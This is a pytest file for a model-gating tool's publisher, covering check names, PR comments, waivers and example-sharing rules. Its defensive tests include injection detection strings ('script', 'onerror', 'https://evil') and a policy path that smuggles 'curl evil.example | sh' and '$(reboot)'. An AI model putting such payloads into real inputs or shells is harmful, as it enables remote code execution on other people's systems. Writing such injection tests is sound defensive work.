"""The whole publication: its names, what it shows, when it comments, and what it never tells."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from markdown_it import MarkdownIt

from gate.errors import UsageError
from gate.publish import check, comment
from gate.publish.compose import identity, publication
from gate.publish.model import Candidate, CheckConclusion, Publication, Target
from gate.records import RunRecord, Status
from tests import records_factory as factory
from tests.records_factory import HOSTILE
from tests.unit.test_publish_check import NOW, TARGET, UNVERIFIED, VERIFIED, many, published
from tests.unit.test_publish_conclusion import undecided, with_waiver

github = MarkdownIt("commonmark").enable(["table", "strikethrough"])
NO_PULL = replace(TARGET, pull=None)


def texts(one: Publication) -> str:
    body = "" if one.comment is None else comment.body(one, None)
    return "\n".join([str(check.payload(one)), str(check.status(one)), body])


def test_names_of_verified_and_unverified_results_differ() -> None:
    verified, claimed = published(factory.passing()), published(factory.passing(), trust=UNVERIFIED)
    assert (verified.name, verified.context) == ("quantgate", "quantgate/verdict")
    assert (claimed.name, claimed.context) == ("quantgate (unverified)", "quantgate/verdict (unverified)")
    assert claimed.conclusion.check is CheckConclusion.NEUTRAL
    # --start knows nothing of trust: what it began is found by this id
    assert verified.external_id == claimed.external_id == identity((), TARGET, "quantgate", ())


@pytest.mark.parametrize(
    ("target", "records", "expected"),
    [
        (TARGET, (), "quantgate/71.2/quantgate/e3b0c44298fc"),
        (replace(TARGET, run_id=None), (factory.passing(),), "quantgate/20261120-120000-4f2a9c/quantgate"),
        (replace(TARGET, run_id=None), (), f"quantgate/{'a' * 40}/quantgate"),
    ],
)
def test_identity(target: Target, records: tuple[RunRecord, ...], expected: str) -> None:
    assert identity([Candidate(name="x", record=r, problem="") for r in records], target, "quantgate", ()) == expected


def test_the_candidates_that_were_expected_are_part_of_the_identity() -> None:
    of = {identity((), TARGET, "quantgate", names) for names in ((), ("w4",), ("w8",), ("w4", "w8"), ("w8", "w4"))}
    assert len(of) == 4


def test_outside_of_actions_the_newest_record_names_it() -> None:
    old = replace(factory.passing(), created_at="2026-11-20T12:00:00+02:00", run_id="old")
    new = replace(factory.passing(), created_at="2026-11-20T11:00:00+00:00", run_id="new")
    broken = replace(factory.passing(), created_at="never", run_id="broken")
    for some in ((old, new, broken), (broken, new, old)):
        assert published(*some, target=replace(TARGET, run_id=None)).external_id == "quantgate/new/quantgate"
    assert published(old, external_id="mine").external_id == "mine"


@pytest.mark.parametrize(
    ("records", "comment_when", "pull", "wanted", "create"),
    [
        ([factory.passing()], "on_failure", 12, True, False),
        ([factory.regression()], "on_failure", 12, True, True),
        ([factory.inconclusive()], "on_failure", 12, True, True),
        ([factory.passing(), factory.error()], "on_failure", 12, True, True),
        ([with_waiver()], "on_failure", 12, True, True),
        ([], "on_failure", 12, True, False),
        ([factory.passing()], "always", 12, True, True),
        ([factory.regression()], "never", 12, False, False),
        ([factory.regression()], "always", None, False, False),
        ([factory.regression()], "on_failure", None, False, False),
    ],
)
def test_when_there_is_a_comment(
    records: list[RunRecord], comment_when: str, pull: int | None, wanted: bool, create: bool
) -> None:
    one = published(*records, comment=comment_when, target=replace(TARGET, pull=pull), nothing_expected=True)
    assert ((one.comment is not None), one.create_comment) == (wanted, create)


def test_an_unverified_result_that_never_came_is_no_reason_for_a_comment() -> None:
    nobody = published(trust=UNVERIFIED, comment="always")
    assert (nobody.create_comment, nobody.comment is not None) == (False, True), "one that is there is kept up to date"
    assert nobody.conclusion.check is CheckConclusion.NEUTRAL
    assert published(factory.regression(), trust=UNVERIFIED).create_comment
    assert published().create_comment, "verified: somebody has to look"


def test_an_inconclusive_run_that_may_merge_still_gets_its_comment() -> None:
    assert published(factory.inconclusive(), inconclusive="neutral").create_comment


def test_unknown_words_are_mistakes() -> None:
    mistakes: list[dict[str, Any]] = [{"comment": "sometimes"}, {"inconclusive": "success"}, {"policy_path": "../x"}]
    for wrong in mistakes:
        with pytest.raises(UsageError):
            published(factory.passing(), **wrong)


def test_one_candidate_has_the_runs_own_summary() -> None:
    one = published(factory.regression())
    assert one.summary.startswith("## ❌ quantgate: regression\n")
    assert "| ❌ regression | `fraud.accuracy.max_drop` |" in one.summary
    rules = one.summary.partition("### Rules")[2]
    assert rules.index("`fraud.accuracy.max_drop`") < rules.index("`sanity.perplexity.max_increase`")
    assert one.comment is not None
    assert one.comment.startswith("## ❌ quantgate: regression\n")
    assert f"<sub>Commit `{'a' * 40}`, [the run]({TARGET.details_url})." in one.comment
    assert VERIFIED.reason in one.comment


def test_several_candidates_have_a_page_worst_first() -> None:
    some = [
        Candidate(name="bank-w8", record=factory.passing(), problem=""),
        Candidate(name="bank-w4", record=None, problem="its job was cancelled"),
        Candidate(name="bank-w3", record=factory.regression(), problem=""),
    ]
    one = publication(
        some,
        TARGET,
        VERIFIED,
        name="quantgate",
        inconclusive="failure",
        comment="on_failure",
        policy_path=None,
        external_id=None,
        now=NOW,
    )
    places = [one.summary.index(f"| {name} |") for name in ("bank-w3", "bank-w4", "bank-w8")]
    assert places == sorted(places)
    assert "its job was cancelled" in one.summary
    assert one.conclusion.title.startswith("Regression: 2 of 3 candidates did not pass, worst bank-w3: ")


def test_what_is_unverified_says_so_first_and_everywhere() -> None:
    one = published(factory.passing(), trust=UNVERIFIED)
    assert one.summary.startswith("> **Unverified**: made by code of the fork eve/models, not ours.")
    assert one.comment is not None
    assert one.comment.startswith("> **Unverified**: ")
    assert one.text.startswith("### Whose code made this\n\nUnverified: made by code of the fork")
    assert "Verified:" not in one.comment


def test_a_record_that_contradicts_itself_is_not_shown_as_a_pass() -> None:
    one = published(replace(factory.passing(), exit_code=1))
    assert one.conclusion.check is CheckConclusion.FAILURE
    assert "quantgate: pass" not in one.summary
    assert "the record contradicts itself: PASS with exit code 1" in one.summary


def test_nobody_came() -> None:
    lost, none = published(), published(nothing_expected=True)
    assert lost.conclusion.check is CheckConclusion.FAILURE
    assert lost.create_comment
    assert none.conclusion.check is CheckConclusion.SKIPPED
    assert "No checkpoint changed: nothing was gated" in none.summary
    assert "No checkpoint changed" not in texts(lost)


def test_waivers_are_told_everywhere() -> None:
    one = published(with_waiver())
    for said in (one.conclusion.title, one.summary, comment.body(one, None), check.status(one)["description"]):
        assert "passed with waiver" in said.lower()
    assert "`fraud.accuracy.max_drop` waived by Ada Byron until 2026-12-31" in one.text
    several = published(with_waiver(), factory.passing())
    for said in (several.conclusion.title, several.summary, check.status(several)["description"]):
        assert "passed with waiver" in said.lower()


def test_who_else_decides() -> None:
    warned = published(factory.inconclusive({**factory.POLICY, "on_inconclusive": "warn"}))
    assert "this check follows `publish.inconclusive`" in warned.text
    beside = published(with_waiver(stages=(*with_waiver().stages, undecided())))
    assert "this check follows `publish.inconclusive`" in beside.text
    assert "publish.inconclusive" not in published(factory.inconclusive()).text
    changed = published(factory.policy_changed())
    assert "This pull request changes its own bar" in changed.text
    assert "1 rule removed, 1 rule loosened, 1 rule added" in changed.text.lower()


@pytest.mark.parametrize(
    ("created", "expected"),
    [
        (["2026-11-20T12:00:00.5+00:00"], "2026-11-20T12:00:00+00:00"),
        (["2026-11-20T12:00:00+02:00", "2026-11-20T11:00:00+00:00"], "2026-11-20T11:00:00+00:00"),
        (["9999-12-31T23:59:59-12:00"], "2026-11-21T00:00:00+00:00"),
        (["0001-01-01T00:00:00+12:00", "2026-11-20T11:00:00+00:00"], "2026-11-20T11:00:00+00:00"),
        (["2026-11-20T11:00:00", "never", HOSTILE], "2026-11-21T00:00:00+00:00"),
        ([], "2026-11-21T00:00:00+00:00"),
    ],
)
def test_when_it_was_measured(created: list[str], expected: str) -> None:
    records = [replace(factory.passing(), created_at=at) for at in created]
    assert published(*records).measured_at == expected
    here = NOW.astimezone(timezone(timedelta(hours=-5)))
    assert published(*records, now=here).measured_at == expected


@pytest.mark.parametrize(
    ("share", "ids", "words"), [("none", False, False), ("ids", True, False), ("full", True, True)]
)
def test_examples_are_shared_as_the_policy_says(share: str, ids: bool, words: bool) -> None:
    flips = [factory.flip(k, prompt="PROMPT-OF-A-CUSTOMER", candidate_output="ANSWER-TO-IT") for k in range(3)]
    record = factory.regression({**factory.POLICY, "share_examples": share}, flips)
    for some in ([record], [record, factory.passing()]):
        said = texts(published(*some))
        if len(some) == 1:
            assert ("fraud:0001:9f2c61d07ab3" in said) == ids
            assert ("PROMPT-OF-A-CUSTOMER" in said) == words
        if not words:
            assert "CUSTOMER" not in said
            assert "ANSWER-TO-IT" not in said


def test_without_a_word_on_sharing_nothing_is_shared() -> None:
    flips = [factory.flip(1, prompt="PROMPT-OF-A-CUSTOMER")]
    policy = {k: v for k, v in factory.POLICY.items() if k != "share_examples"}
    assert "CUSTOMER" not in texts(published(factory.regression(policy, flips)))


def hostile(**changes: Any) -> Publication:
    record = replace(
        factory.hostile("none"),
        policy_source=HOSTILE,
        run_id=HOSTILE,
        waivers=(replace(factory.waiver("fraud.acc.max_drop"), owner=HOSTILE, reason=HOSTILE),),
        policy_change=replace(factory.policy_change(), base_commit=HOSTILE, paths=(HOSTILE,), notes=(HOSTILE,)),
    )
    some = [Candidate(name=HOSTILE, record=record, problem=""), Candidate(name="b", record=None, problem=HOSTILE)]
    values: dict[str, Any] = {
        "name": "quantgate",
        "inconclusive": "failure",
        "comment": "always",
        "policy_path": "thresholds/demo.yaml",
        "external_id": None,
        "now": NOW,
        **changes,
    }
    return publication(some, replace(TARGET, run_id=None), replace(UNVERIFIED, reason=HOSTILE), **values)


@pytest.mark.parametrize("which", ["summary", "text", "comment"])
def test_hostile_text_is_only_text(which: str) -> None:
    one = hostile()
    said = comment.body(one, None) if which == "comment" else getattr(one, which)
    said.encode()
    tokens = github.parse(said)
    inline = [child for token in tokens for child in (token.children or [])]
    links = [t.attrs["href"] for t in inline if t.type == "link_open"]
    assert set(links) <= {TARGET.details_url}
    assert not [t for t in inline if t.type == "image"]
    html = [t.content for t in tokens if t.type == "html_block"] + [
        t.content for t in inline if t.type == "html_inline"
    ]
    for tag in html:
        assert "script" not in tag.lower()
        assert "onerror" not in tag.lower()
    shown = "\n".join(t.content for t in inline if t.type == "text")
    assert "@octocat" not in shown
    assert "#12 " not in shown
    assert "https://evil" not in shown
    assert not [line for line in said.splitlines() if line.lstrip().startswith("::")]
    assert "\x1b" not in said
    assert "\u202e" not in said


def test_a_command_to_copy_runs_nothing_else() -> None:
    odd = replace(factory.regression(), policy_source="p.yaml; curl evil.example | sh\n$(reboot)")
    one = published(odd, policy_path=None)
    assert "--policy 'p.yaml; curl evil.example | sh $(reboot)'\n" in one.text


def test_a_command_to_copy_names_the_policy_of_the_repository() -> None:
    judged_by_a_copy = replace(factory.regression(), policy_source="/tmp/runner/policy/base/thresholds/demo.yaml")
    one = published(judged_by_a_copy, policy_path="./thresholds/a b.yaml")
    assert "gate decide RUN --policy 'thresholds/a b.yaml'\n" in one.text
    assert "/tmp/runner" not in one.text


def loaded_with_settings() -> RunRecord:
    """Of a checkpoint whose files do not say how it is loaded: a waiver must name the effective digest."""
    red = factory.regression()
    assert red.candidate is not None
    return replace(red, candidate=replace(red.candidate, effective_digest="e" * 64, tensor_digest="7" * 64))


def comment_of(*records: RunRecord, **changes: Any) -> str:
    one = published(*records, **changes)
    assert one.comment is not None
    return one.comment


def test_each_of_several_candidates_shows_its_run_and_what_a_waiver_must_name() -> None:
    plain = factory.regression()
    assert plain.candidate is not None
    as_stored = hashlib.sha256(plain.candidate.tensor_digest.encode() + b'\n{"dtype":"auto","load":{}}').hexdigest()
    files = plain.candidate.digest
    plain = replace(plain, run_id="run-1", candidate=replace(plain.candidate, effective_digest=as_stored))
    said = comment_of(plain, replace(loaded_with_settings(), run_id="run-2"))
    assert f"Run `run-1`, candidate SHA-256 `{files}`." in said
    assert f"Run `run-2`, candidate as it is loaded, SHA-256 `{'e' * 64}`." in said


def now(said: str) -> str:
    [line] = [line for line in said.splitlines() if line.startswith("**What now**")] or [""]
    assert not line or said.splitlines()[-2:] == ["", said.splitlines()[-1]]
    return line


def test_a_comment_that_is_not_green_ends_with_what_to_do() -> None:
    red = now(comment_of(loaded_with_settings()))
    assert f"waive `fraud.accuracy.max_drop` for checkpoint `{'e' * 64}` (docs/waivers.md)" in red
    assert "report.html in the run's artifact" in red
    assert "each red rule by its id" in now(comment_of(factory.regression(), factory.regression(), factory.error()))
    assert "docs/inconclusive.md" in now(comment_of(factory.inconclusive()))
    open_too = with_waiver(stages=(*with_waiver().stages, undecided()))
    assert "docs/inconclusive.md" in now(comment_of(open_too))
    assert "the job's log" in now(comment_of(factory.error()))
    assert "the job's log" in now(comment_of())
    assert "the job's log" in now(comment_of(replace(factory.passing(), exit_code=1)))
    assert "cannot be waived" in now(comment_of(factory.refused()))
    assert "default branch's code" in now(comment_of(factory.passing(), trust=UNVERIFIED))
    assert "docs/waivers.md" in now(comment_of(factory.regression(), trust=UNVERIFIED))


def test_a_comment_on_what_passes_advises_nothing() -> None:
    for some in ([factory.passing()], [with_waiver()], [factory.passing(), with_waiver()]):
        assert now(comment_of(*some)) == ""
    assert now(comment_of(nothing_expected=True)) == ""


def test_only_what_nobody_answers_for_yet_is_to_be_waived() -> None:
    partly = with_waiver(exit_code=1)
    partly = replace(partly, verdict=replace(partly.verdict, deciding=("a.b", "fraud.accuracy.max_drop")))
    assert "waive `a.b` for checkpoint" in now(comment_of(partly))


def test_hostile_text_in_titles_is_one_clean_line() -> None:
    one = hostile()
    for title in (one.conclusion.title, one.external_id, one.name, *(a.title for a in one.annotations)):
        assert title.isprintable()
        assert len(title) <= 255
    assert one.conclusion.title.startswith("Unverified: ")


def test_the_most_important_rows_are_kept() -> None:
    record = many(600)
    passing = [factory.finding(factory.rule(id=f"pass.{k:04d}"), Status.PASS, (0.0, -0.1, 0.01)) for k in range(600)]
    stage = factory.stage("domain", "others", Status.PASS, passing)
    one = published(replace(record, stages=(stage, *record.stages)))
    rows = [line for line in one.summary.splitlines() if line.startswith(("| ✅", "| ❌"))]
    assert "`rule.0000`" in rows[0]
    assert not [row for row in rows[:50] if row.startswith("| ✅")]
    assert "more in report.html" in one.summary


def test_publishing_the_same_twice_is_the_same() -> None:
    for record in (factory.regression(), factory.hostile(), with_waiver()):
        assert published(record) == published(record)
    assert published(factory.regression(), now=datetime(2027, 1, 1, tzinfo=NOW.tzinfo)) == published(
        factory.regression()
    )
